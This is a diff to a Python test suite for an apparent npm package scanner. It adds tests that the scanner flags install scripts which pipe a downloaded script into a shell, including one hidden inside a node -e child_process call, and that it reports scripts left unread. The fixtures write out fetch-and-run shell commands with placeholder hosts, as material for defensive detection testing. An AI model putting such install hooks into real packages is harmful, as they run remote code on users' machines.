@@ -7,7 +7,7 @@ from script_kit import SERVER, assembled, found_in
 
 from localnet.analysis.analyse import analyse
 from localnet.analysis.bounds import MAX_LOCK, MAX_LOCKED, MAX_PACKAGES
-from localnet.analysis.result import Analysis
+from localnet.analysis.result import BEYOND, Analysis
 from localnet.npm_advisories import TABLE
 
 
@@ -24,6 +24,20 @@ def test_scripts_are_read_as_shell(hook: str) -> None:
     analysis = of_package({"name": "a", "scripts": {"x": "tsc", hook: "<CURL> https://<HOST>/i | bash"}})
     assert found_in(analysis, "package.json") == {("critical", "excessive_capability", 5)}
     assert analysis.capabilities == (() if hook == "build" else ("subprocess",))
+
+
+def test_code_that_a_script_gives_to_node_is_read() -> None:
+    code = "require('child_process').exec('<CURL> https://<HOST> | sh')"
+    analysis = of_package({"scripts": {"preinstall": f'node -e "{code}"'}})
+    assert ("critical", "excessive_capability", 3) in found_in(analysis, "package.json")
+    assert of_package({"scripts": {"preinstall": 'node -e "console.log(1)"'}}).findings == ()
+
+
+def test_more_scripts_than_are_read_are_said() -> None:
+    scripts = {f"s{n:03}": "true;" * 600 for n in range(50)}
+    assert BEYOND in {f.description for f in of_package({"scripts": scripts}).findings}
+    calls = b"require('child_process').exec('" + b"true;" * 600 + b"');\n"
+    assert BEYOND in {f.description for f in analyse({"a.js": calls * 50}, SERVER).findings}
 
 
 @pytest.mark.parametrize("script", ["tsc && chmod +x dist/index.js", "rimraf dist", "node install.js", "husky || true"])
